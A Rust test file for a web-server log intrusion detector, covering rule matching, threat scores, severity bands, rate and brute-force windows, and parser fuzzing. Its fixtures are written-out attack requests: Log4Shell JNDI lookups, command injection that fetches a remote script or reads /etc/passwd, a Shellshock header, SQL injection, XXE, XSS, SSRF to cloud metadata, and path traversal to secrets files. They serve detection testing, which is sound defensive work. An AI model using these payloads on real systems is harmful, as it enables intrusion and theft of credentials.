//! Rule, score and window tests on log lines, and the parser's fuzz test.
use std::sync::Arc;

use super::{parse::parse, rng::Rng, rules::Rules, severity_of, Detector, Verdict};
use crate::models::severity::Severity;

fn detector() -> Detector {
    Detector::new(Arc::new(Rules::builtin().unwrap()), 1000)
}

fn line(ip: &str, second: u32, request: &str, status: u16, ua: &str) -> String {
    format!(
        r#"{ip} - - [20/Nov/2026:10:{:02}:{:02} +0000] "{request}" {status} 512 "-" "{ua}""#,
        second / 60,
        second % 60
    )
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

fn verdict(d: &mut Detector, request: &str, ua: &str) -> Verdict {
    let text = line("198.51.100.20", 0, request, 200, ua);
    d.inspect(&parse(&text).unwrap())
}

fn rules_of(v: &Verdict) -> Vec<&str> {
    v.components.iter().map(|c| c.rule.as_str()).collect()
}

#[test]
fn each_pattern_rule_catches_its_reference_examples() {
    let cases: &[(&str, &str, &str)] = &[
        ("LOG4SHELL", "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1", BROWSER),
        ("LOG4SHELL", "GET /?x=%24%7Blower%3Aj%7Dndi HTTP/1.1", BROWSER),
        ("LOG4SHELL", "GET / HTTP/1.1", "${jndi:dns://x.example/a}"),
        ("LOG4SHELL", "GET /?a=${::-j}${::-n}di HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /ping?host=x|id HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /ping?host=$(whoami) HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /ping?host=%60id%60 HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /x?h=a%26%26wget%20http://203.0.113.5/x.sh HTTP/1.1", BROWSER),
        ("COMMAND_INJECTION", "GET /cgi-bin/status HTTP/1.1", "() { :; }; /bin/bash -c 'id'"),
        ("SQL_INJECTION", "GET /item?id=1%20UNION%20SELECT%20NULL,NULL-- HTTP/1.1", BROWSER),
        ("SQL_INJECTION", "GET /login?user=admin%27%20or%201=1-- HTTP/1.1", BROWSER),
        ("SQL_INJECTION", "GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1", BROWSER),
        ("SQL_INJECTION", "GET /q?x=information_schema.tables HTTP/1.1", BROWSER),
        ("SQL_INJECTION", "GET /login?user=admin%27-- HTTP/1.1", BROWSER),
        ("XXE_INJECTION", "GET /xml?d=%3C!DOCTYPE%20x%20[%3C!ENTITY%20e%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E HTTP/1.1", BROWSER),
        ("XSS", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", BROWSER),
        ("XSS", "GET /r?u=javascript:alert(document.domain) HTTP/1.1", BROWSER),
        ("XSS", "GET /p?x=%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1", BROWSER),
        ("XSS", "GET /p?x=document.cookie HTTP/1.1", BROWSER),
        ("FILE_INCLUSION", "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1", BROWSER),
        ("FILE_INCLUSION", "GET /index.php?page=file:///etc/hosts HTTP/1.1", BROWSER),
        ("FILE_INCLUSION", "GET /index.php?page=phar://upload/x.jpg HTTP/1.1", BROWSER),
        ("SSRF", "GET /fetch?target=http://169.254.169.254/latest/meta-data/ HTTP/1.1", BROWSER),
        ("SSRF", "GET /fetch?target=http://metadata.google.internal/computeMetadata/v1/ HTTP/1.1", BROWSER),
        ("SSRF", "GET /fetch?target=gopher://127.0.0.1:6379/_INFO HTTP/1.1", BROWSER),
        ("CRLF_INJECTION", "GET /redirect?to=/%0d%0aSet-Cookie:%20a=b HTTP/1.1", BROWSER),
        ("PATH_TRAVERSAL", "GET /download?file=../../../../etc/passwd HTTP/1.1", BROWSER),
        ("PATH_TRAVERSAL", "GET /static/%2e%2e/%2e%2e/app.py HTTP/1.1", BROWSER),
        ("PATH_TRAVERSAL", "GET /.env HTTP/1.1", BROWSER),
        ("PATH_TRAVERSAL", "GET /.git/config HTTP/1.1", BROWSER),
        ("OPEN_REDIRECT", "GET /login?next=https://evil.example/phish HTTP/1.1", BROWSER),
        ("OPEN_REDIRECT", "GET /logout?return_to=//evil.example HTTP/1.1", BROWSER),
        ("OPEN_REDIRECT", "GET /go?url=%2F%2Fevil.example HTTP/1.1", BROWSER),
        ("DOUBLE_ENCODING", "GET /files/%252e%252e%252fetc%252fpasswd HTTP/1.1", BROWSER),
        ("SCANNER_UA", "GET / HTTP/1.1", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("SCANNER_UA", "GET / HTTP/1.1", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"),
        ("SCANNER_UA", "GET / HTTP/1.1", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ];
    let mut d = detector();
    for (rule, request, ua) in cases {
        let v = verdict(&mut d, request, ua);
        assert!(v.matched(rule), "{rule} missed: {request} / {ua}: {v:?}");
    }
}

#[test]
fn ordinary_requests_match_nothing() {
    let cases: &[(&str, &str)] = &[
        ("GET /search?q=union+station+parking HTTP/1.1", BROWSER),
        (
            "GET /search?q=select+comfort+mattress+review HTTP/1.1",
            BROWSER,
        ),
        (
            "GET /search?q=%22rock+and+roll%22+--+live HTTP/1.1",
            BROWSER,
        ),
        ("GET /search?q=don%27t+stop+believin%27 HTTP/1.1", BROWSER),
        ("GET /search?q=O%27Reilly+or+Manning HTTP/1.1", BROWSER),
        (
            "GET /search?q=javascript%3A+the+good+parts HTTP/1.1",
            BROWSER,
        ),
        ("GET /login?next=/dashboard%3Ftab%3D2 HTTP/1.1", BROWSER),
        (
            "GET /api/v2/items?id=42&sort=-created_at&fields=id,name HTTP/2.0",
            BROWSER,
        ),
        ("GET /.well-known/acme-challenge/abc HTTP/1.1", BROWSER),
        ("GET /static/js/app.environment.7f3a.js HTTP/1.1", BROWSER),
        ("GET /discount?code=50%25OFF HTTP/1.1", BROWSER),
        (
            "GET / HTTP/1.1",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
        (
            "GET / HTTP/1.1",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ),
        (
            "HEAD / HTTP/1.1",
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        ),
        (
            "GET / HTTP/1.1",
            "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        ),
        ("GET / HTTP/1.1", "python-requests/2.31.0"),
        ("GET / HTTP/1.1", "python-httpx/0.27.0"),
        ("GET / HTTP/1.1", "curl/8.4.0"),
    ];
    let mut d = detector();
    for (request, ua) in cases {
        let v = verdict(&mut d, request, ua);
        assert!(!v.is_match(), "false positive: {request} / {ua}: {v:?}");
    }
}

#[test]
fn scanner_names_are_words_not_substrings() {
    let mut d = detector();
    for ua in [
        "Mozilla/5.0 (Nmapper Pro)",
        "Burpee/1.0",
        "sqlmapper-client",
        "hydrant-monitor/2",
    ] {
        assert!(
            !verdict(&mut d, "GET / HTTP/1.1", ua).matched("SCANNER_UA"),
            "{ua}"
        );
    }
    for ua in [
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "gobuster/3.6",
        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    ] {
        assert!(
            verdict(&mut d, "GET / HTTP/1.1", ua).matched("SCANNER_UA"),
            "{ua}"
        );
    }
}

#[test]
fn score_formula_and_bands() {
    let mut d = detector();
    // SQL_INJECTION alone: 0.85, HIGH.
    let v = verdict(
        &mut d,
        "GET /item?id=1%27%20or%20%271%27=%271 HTTP/1.1",
        BROWSER,
    );
    assert_eq!(v.threat_score(), 850);
    assert_eq!(v.severity(), Severity::High);
    assert_eq!(v.top_rule(), Some("SQL_INJECTION"));
    // SQL_INJECTION double-encoded: + DOUBLE_ENCODING = 0.85 + 0.05 = 0.90, CRITICAL.
    let v = verdict(
        &mut d,
        "GET /item?id=1%2527%2520or%25201%253D1-- HTTP/1.1",
        BROWSER,
    );
    assert_eq!(rules_of(&v), ["SQL_INJECTION", "DOUBLE_ENCODING"]);
    assert_eq!(v.threat_score(), 900);
    assert_eq!(v.severity(), Severity::Critical);
    // Three rules: max 0.80 + 2 × 0.05.
    let v = verdict(
        &mut d,
        "GET /p?x=%3Cscript%3Edocument.cookie%3C/script%3E&next=//evil.example HTTP/1.1",
        "nikto",
    );
    assert_eq!(rules_of(&v), ["XSS", "OPEN_REDIRECT", "SCANNER_UA"]);
    assert_eq!(v.threat_score(), 900);
    // Capped at 1.0.
    let v = verdict(
        &mut d,
        "GET /x?a=${jndi:ldap://x}&b=;cat%20/etc/passwd&c=%27%20or%201=1--&d=%3Cscript%3E HTTP/1.1",
        "sqlmap",
    );
    assert_eq!(v.threat_score(), 1000);
    assert_eq!(v.top_rule(), Some("LOG4SHELL"));
    // A scanner alone is LOW: counted, not stored.
    let v = verdict(&mut d, "GET / HTTP/1.1", "sqlmap/1.7");
    assert_eq!((v.threat_score(), v.severity()), (350, Severity::Low));
    assert_eq!(severity_of(0), Severity::Low);
    assert_eq!(severity_of(499), Severity::Low);
    assert_eq!(severity_of(500), Severity::Medium);
    assert_eq!(severity_of(699), Severity::Medium);
    assert_eq!(severity_of(700), Severity::High);
    assert_eq!(severity_of(899), Severity::High);
    assert_eq!(severity_of(900), Severity::Critical);
}

#[test]
fn evidence_is_the_matching_text() {
    let mut d = detector();
    let v = verdict(
        &mut d,
        "GET /download?file=../../etc/passwd HTTP/1.1",
        BROWSER,
    );
    assert_eq!(v.components[0].evidence.as_deref(), Some("../"));
}

#[test]
fn a_request_line_that_is_not_http_is_scored_too() {
    let mut d = detector();
    let text = r#"192.0.2.1 - - [20/Nov/2026:10:00:00 +0000] "${jndi:ldap://x/a}" 400 0 "-" "-""#;
    assert!(d.inspect(&parse(text).unwrap()).matched("LOG4SHELL"));
}

#[test]
fn rate_anomaly_after_100_requests_in_a_minute() {
    let mut d = detector();
    let mut flagged = Vec::new();
    for i in 0..130u32 {
        let text = line(
            "203.0.113.50",
            i / 4,
            "GET /products HTTP/1.1",
            200,
            BROWSER,
        );
        if d.inspect(&parse(&text).unwrap()).matched("RATE_ANOMALY") {
            flagged.push(i);
        }
    }
    assert_eq!(flagged, (100..130).collect::<Vec<_>>());
    // Another client at the same time is not affected.
    let other = line("203.0.113.51", 30, "GET /products HTTP/1.1", 200, BROWSER);
    assert!(!d.inspect(&parse(&other).unwrap()).is_match());
    // A minute of quiet later, the first client starts from zero.
    let later = line("203.0.113.50", 200, "GET /products HTTP/1.1", 200, BROWSER);
    assert!(!d.inspect(&parse(&later).unwrap()).is_match());
}

#[test]
fn a_steady_client_below_the_rate_is_never_flagged() {
    let mut d = detector();
    // 90 requests a minute for ten minutes.
    for i in 0..900u32 {
        let text = line(
            "203.0.113.60",
            i * 2 / 3,
            "GET /api/poll HTTP/1.1",
            200,
            BROWSER,
        );
        let v = d.inspect(&parse(&text).unwrap());
        assert!(!v.is_match(), "request {i}: {v:?}");
    }
}

#[test]
fn high_error_rate_needs_ten_requests_and_over_half_errors() {
    let mut d = detector();
    let mut flagged = Vec::new();
    for i in 0..30u32 {
        let status = if i % 4 == 0 { 200 } else { 404 };
        let text = line(
            "203.0.113.70",
            i * 5,
            &format!("GET /old/page-{i} HTTP/1.1"),
            status,
            BROWSER,
        );
        if d.inspect(&parse(&text).unwrap()).matched("HIGH_ERROR_RATE") {
            flagged.push(i);
        }
    }
    assert_eq!(flagged, (9..30).collect::<Vec<_>>());
    // Half is not over half.
    let mut d = detector();
    for i in 0..40u32 {
        let status = if i % 2 == 0 { 200 } else { 404 };
        let text = line("203.0.113.71", i * 5, "GET /x HTTP/1.1", status, BROWSER);
        assert!(
            !d.inspect(&parse(&text).unwrap()).matched("HIGH_ERROR_RATE"),
            "{i}"
        );
    }
}

#[test]
fn brute_force_flags_refused_logins_beyond_ten_a_minute() {
    let mut d = detector();
    let mut flagged = Vec::new();
    for i in 0..20u32 {
        let text = line(
            "203.0.113.80",
            i * 2,
            "POST /api/auth/login HTTP/1.1",
            401,
            BROWSER,
        );
        let v = d.inspect(&parse(&text).unwrap());
        if v.matched("BRUTE_FORCE") {
            assert_eq!(v.severity(), Severity::Medium, "0.50 alone is MEDIUM");
            flagged.push(i);
        }
    }
    assert_eq!(flagged, (10..20).collect::<Vec<_>>());
    // The same client's other requests are not brute force.
    let text = line("203.0.113.80", 41, "GET /api/alerts HTTP/1.1", 200, BROWSER);
    assert!(!d.inspect(&parse(&text).unwrap()).matched("BRUTE_FORCE"));
    // Refusals elsewhere are not logins.
    let mut d = detector();
    for i in 0..20u32 {
        let text = line(
            "203.0.113.81",
            i,
            "GET /admin/reports HTTP/1.1",
            403,
            BROWSER,
        );
        assert!(!d.inspect(&parse(&text).unwrap()).matched("BRUTE_FORCE"));
    }
}

#[test]
fn window_memory_is_bounded_and_replays_are_deterministic() {
    let rules = Arc::new(Rules::builtin().unwrap());
    let run = || {
        let mut d = Detector::new(rules.clone(), 64);
        let mut verdicts = Vec::new();
        for i in 0..5_000u32 {
            // 500 clients, the first of which floods.
            let ip = if i % 2 == 0 {
                "203.0.113.1".to_string()
            } else {
                format!("10.0.{}.{}", (i / 2 % 500) / 250, (i / 2 % 500) % 250)
            };
            let text = line(&ip, i / 50, "GET / HTTP/1.1", 200, BROWSER);
            verdicts.push(d.inspect(&parse(&text).unwrap()).threat_score());
            assert!(d.tracked_clients() <= 64);
        }
        verdicts
    };
    let first = run();
    assert_eq!(first, run());
    assert!(
        first.iter().filter(|s| **s > 0).count() > 100,
        "the busy client is kept despite the churn"
    );
}

#[test]
fn parsing_and_scoring_never_panic_on_arbitrary_bytes() {
    let seeds = [
        r#"203.0.113.7 - - [20/Nov/2026:10:00:00 +0000] "GET /index.html?a=1 HTTP/1.1" 200 612 "-" "Mozilla/5.0""#,
        r#"2001:db8::1 - frank [10/Oct/2026:13:55:36 -0700] "POST /login HTTP/1.0" 401 - "http://x/" "a \"b\" \\c""#,
        r#"192.0.2.9 - - [20/Nov/2026:10:00:00 +0000] "\x16\x03\x01\x00\xCA" 400 157 "-" "-""#,
        r#"10.0.0.1 - - [20/Nov/2026:10:00:00 +0000] "GET /?q=%25%2e%2e%2f${jndi:x}%0d%0a HTTP/1.1" 200 1 "-" "sqlmap""#,
    ];
    let alphabet: &[u8] =
        b" \"\\[]-:/%+x0123456789abcdefABCDEF.\r\n\t{}$'`;|&<>=?#\x00\xff\xc3\xa9";
    let mut rng = Rng::new(0x9E37_79B9_7F4A_7C15);
    let mut d = detector();
    let (mut parsed, mut refused) = (0u32, 0u32);
    for round in 0..60_000 {
        let bytes: Vec<u8> = if round % 3 == 0 {
            // Entirely random bytes, of random length.
            let len = rng.below(300);
            (0..len)
                .map(|_| u8::try_from(rng.next_u64() & 0xff).unwrap_or(0))
                .collect()
        } else {
            // A real line, mutated: byte flips, insertions from a hostile
            // alphabet, deletions, truncation, duplication.
            let mut b = seeds[rng.below(seeds.len())].as_bytes().to_vec();
            for _ in 0..=rng.below(6) {
                if b.is_empty() {
                    break;
                }
                let at = rng.below(b.len());
                match rng.below(5) {
                    0 => b[at] = u8::try_from(rng.next_u64() & 0xff).unwrap_or(0),
                    1 => b.insert(at, alphabet[rng.below(alphabet.len())]),
                    2 => {
                        b.remove(at);
                    }
                    3 => b.truncate(at),
                    _ => {
                        let tail = b[at..].to_vec();
                        b.extend_from_slice(&tail);
                    }
                }
            }
            b
        };
        let text = String::from_utf8_lossy(&bytes);
        match parse(&text) {
            Ok(l) => {
                parsed += 1;
                assert!((100..=999).contains(&l.status));
                let v = d.inspect(&l);
                assert!(v.threat_score() <= 1000);
            }
            Err(e) => {
                refused += 1;
                assert!(!e.to_string().is_empty());
            }
        }
    }
    // The mutations keep enough lines valid to exercise the scorer.
    assert!(parsed > 5_000, "parsed {parsed}, refused {refused}");
    assert!(refused > 20_000, "parsed {parsed}, refused {refused}");
}
